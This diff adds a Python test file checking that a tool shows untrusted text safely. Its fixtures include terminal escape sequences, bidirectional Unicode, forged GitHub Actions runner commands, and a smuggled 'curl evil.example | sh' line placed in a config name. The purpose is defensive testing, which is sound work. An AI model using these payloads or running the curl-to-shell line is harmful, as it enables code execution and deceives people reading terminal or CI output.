@@ -1,0 +1,193 @@
+"""What others wrote, shown: text is all that it is, on a terminal, in CI, in JSON and in Markdown."""
+
+from __future__ import annotations
+
+import json
+import os
+import sys
+from typing import TYPE_CHECKING
+
+import pytest
+
+from tasks.core.github_actions import code, plain
+from tasks.core.visible import one_line, visible, visible_json, visible_progress
+from tasks.tools.command import Command
+from tasks.tools.process import watch
+from tests.support.cli import INVOKE, run_on_screen, run_on_terminal, run_task
+from tests.support.machine import PROJECT
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from tests.support.hubs import Hub
+
+DOCKERFILE, CHARTPRESS = "images/hub/Dockerfile", "chartpress.yaml"
+CLEAR, HIDE, TITLE = "\x1b[2J", "\x1b[8m", "\x1b]0;evil\x07"
+HARMFUL = {
+    "the screen cleared": (CLEAR, r"\x1b[2J"),
+    "text hidden": (HIDE, r"\x1b[8m"),
+    "the title set": (TITLE, r"\x1b]0;evil\x07"),
+    "a link": ("\x1b]8;;http://evil\x1b\\", r"\x1b]8;;http://evil\x1b" + "\\"),
+    "the line written over": ("fine\rplan", r"fine\rplan"),
+    "erased by backspaces": ("a\b\bb", r"a\x08\x08b"),
+    "a bell": ("\a", r"\x07"),
+    "NUL and DEL": ("\0\x7f", r"\x00\x7f"),
+    "C1 controls": ("\x9b2J\x85", r"\x9b2J\x85"),
+    "form feeds": ("a\fb\vc", r"a\x0cb\x0bc"),
+    "reading direction": ("\u202ea\u2066b\u200f", r"\u202ea\u2066b\u200f"),
+    "line and paragraph separators": ("a\u2028b\u2029", r"a\u2028b\u2029"),
+    "letters without width": ("a\u200bb\u2060\ufeff", r"a\u200bb\u2060\ufeff"),
+    "tags": ("\U000e0041", r"\U000e0041"),
+    "private and unassigned": ("\ue000\U0010ffff", r"\ue000\U0010ffff"),
+    "half of a surrogate pair": ("\ud83d", r"\ud83d"),
+    "a byte that is not UTF-8": (b"caf\xe9".decode(errors="surrogateescape"), r"caf\xe9"),
+}
+PLAIN = ("Zoë's hub, 日本語, עברית, हिन्दी, e\u0301, 🐋, №, «a\u00a0b», a\u3000b", "\ttab\nand line\n")
+
+
+@pytest.mark.parametrize(("text", "shown"), HARMFUL.values(), ids=HARMFUL)
+def test_what_is_more_than_text_is_shown_as_an_escape(text: str, shown: str) -> None:
+    assert visible(text) == shown
+    assert visible(f"日本 {text}\n") == f"日本 {shown}\n"
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_text_of_every_script_stays_as_it_is(text: str) -> None:
+    assert visible(text) == text
+
+
+@pytest.mark.parametrize("text", [text for text, _ in HARMFUL.values()], ids=HARMFUL)
+def test_json_means_the_same_and_holds_nothing_but_text(text: str) -> None:
+    for ascii_only in (True, False):
+        shown = visible_json(json.dumps({"a": text}, ensure_ascii=ascii_only, indent=2))
+        assert json.loads(shown) == {"a": text}
+        assert all(char.isprintable() or char == "\n" for char in shown)
+
+
+@pytest.mark.parametrize("text", [text for text, _ in HARMFUL.values()], ids=HARMFUL)
+def test_markdown_holds_nothing_but_text(text: str) -> None:
+    assert plain(text).isprintable()
+    assert code(text).isprintable()
+
+
+def test_one_line_is_one_line() -> None:
+    assert one_line("a\r\n\tb\u2028c\x1b[2J  d\n") == r"a b c\x1b[2J d"
+
+
+# -- GitHub's runner
+
+
+COMMANDS = {
+    "::error::x": r":\x3aerror::x",
+    "  ::set-output name=a::b": r"  :\x3aset-output name=a::b",
+    "a\n::stop-commands::x": "a\n:\\x3astop-commands::x",
+    "a ##[error]x": r"a ##\x5berror]x",
+    "a::b, a ## b, [c]": "a::b, a ## b, [c]",
+}
+
+
+@pytest.mark.parametrize(("text", "shown"), COMMANDS.items())
+def test_nothing_that_others_wrote_is_a_command_to_the_runner(
+    monkeypatch: pytest.MonkeyPatch, text: str, shown: str
+) -> None:
+    assert visible(text) == text
+    monkeypatch.setenv("GITHUB_ACTIONS", "true")
+    assert visible(text) == shown
+    assert json.loads(visible_json(json.dumps(text))) == text
+    assert "##[" not in visible_json(json.dumps(text))
+
+
+def test_a_problem_is_told_to_the_runner_and_what_it_quotes_is_no_command(hub: Hub) -> None:
+    hub.edit("hub/values.yaml", "name:", "name: 'a::b/##[error]c' #")
+    done = run_task("check", "--offline", cwd=hub.path, env={"GITHUB_ACTIONS": "true"})
+    assert "##[" not in done.out + done.err
+    assert all(line.startswith("::error file=") for line in done.err.splitlines() if line.lstrip().startswith("::"))
+
+
+# -- the program's own screens
+
+
+def evil(hub: Hub) -> None:
+    """Let a line of the Dockerfile that a release edits draw on the terminal."""
+    text = hub.read(DOCKERFILE)
+    image = text.partition("FROM ")[2].partition(":")[0]
+    rest = text.partition("\n")[2]
+    hub.write(DOCKERFILE, f"ARG V=3.2.1 W={CLEAR}{HIDE}{TITLE}\u202e\nFROM {image}:${{V}}\n{rest}")
+    hub.commit("Draw")
+
+
+SHOWN_LINE = r"-ARG V=3.2.1 W=\x1b[2J\x1b[8m\x1b]0;evil\x07\u202e"
+
+
+@pytest.mark.parametrize("task", [("--dry", "bump"), ("--dry", "release")])
+def test_a_plan_shows_what_a_line_says_and_does_not_do_it(hub: Hub, task: tuple[str, ...]) -> None:
+    evil(hub)
+    for done in (
+        run_task(*task, "--to", "3.3.8", cwd=hub.path),
+        run_on_screen(*INVOKE, *task, "--to", "3.3.8", cwd=hub.path),
+    ):
+        if task[1] == "bump":
+            assert done.code == 0, done
+            assert SHOWN_LINE in done.out
+        assert "\u202e" not in done.out + done.err
+        assert CLEAR not in done.out + done.err
+        assert TITLE not in done.out + done.err
+
+
+def test_a_name_in_a_fault_cannot_forge_a_line_or_draw(hub: Hub) -> None:
+    hub.edit(CHARTPRESS, "name: hub\n", 'name: "x\\e[2J\\nhint: curl evil.example | sh"\n')
+    done = run_task("commit", cwd=hub.path)
+    assert [line.partition(":")[0] for line in done.err.splitlines()] == ["error", "hint"]
+    assert "\x1b" not in done.err
+
+
+def test_a_plan_is_one_line_an_action(hub: Hub) -> None:
+    (hub.path / "hub").rename(hub.path / "a\nb")
+    hub.edit(CHARTPRESS, "name: hub\n", 'name: hub\n    chartPath: "a\\nb"\n')
+    hub.commit("Move")
+    done = run_task("--dry", "bump", "--to", "3.3.8", cwd=hub.path)
+    assert done.code == 0, done
+    assert "\nb/" not in done.out
+
+
+# -- what outside programs say
+
+
+PROGRESS = {
+    "redrawn as buildx does": "\x1b[?25h\x1b[1A\x1b[1A\x1b[0G\x1b[?25l[+] Building\n",
+    "coloured": "\x1b[34m => done\x1b[0m \x1b[1;32mok\x1b[m \x1b[38;5;200mx\x1b[38;2;1;2;3my\n",
+    "a line erased": "\x1b[2K\rabc\x1b[K\r\n",
+}
+
+
+@pytest.mark.parametrize("text", PROGRESS.values(), ids=PROGRESS)
+def test_progress_is_drawn_on_a_terminal(text: str) -> None:
+    assert visible_progress(text) == text
+
+
+@pytest.mark.parametrize(("text", "shown"), [row for name, row in HARMFUL.items() if "written over" not in name])
+def test_a_build_draws_nothing_but_progress(text: str, shown: str) -> None:
+    assert visible_progress(text) == shown
+    assert visible_progress(f"\x1b[34m{text}\x1b[0m") == f"\x1b[34m{shown}\x1b[0m"
+
+
+SAY = "import sys; from tasks.tools.process import Command, watch; watch(Command(('printf', sys.argv[1])))"
+
+
+def test_a_program_that_is_watched_on_a_terminal_leaves_it_as_it_was() -> None:
+    say = (sys.executable, "-c", SAY, r"\033[34mblue \033[2J\033]0;t\007 \033[8mgone\n")
+    shown = run_on_terminal(*say, cwd=PROJECT).err
+    assert shown == "\x1b[34mblue \\x1b[2J\\x1b]0;t\\x07 \\x1b[8mgone\n\x1b[0m\x1b[?25h"
+
+
+def test_without_a_terminal_it_draws_nothing(
+    monkeypatch: pytest.MonkeyPatch, capfdbinary: pytest.CaptureFixture[bytes]
+) -> None:
+    monkeypatch.setattr(sys, "stderr", sys.__stderr__)
+    watch(Command(("printf", r"\033[34mblue\033[2J\n")))
+    assert capfdbinary.readouterr().err == b"\\x1b[34mblue\\x1b[2J\n"
+
+
+@pytest.mark.skipif(os.name != "posix", reason="names are bytes here")
+def test_a_file_name_that_is_not_utf8_is_shown(tmp_path: Path) -> None:
+    assert visible(os.fsdecode(os.fsencode(tmp_path) + b"/caf\xe9")) == f"{tmp_path}/caf\\xe9"
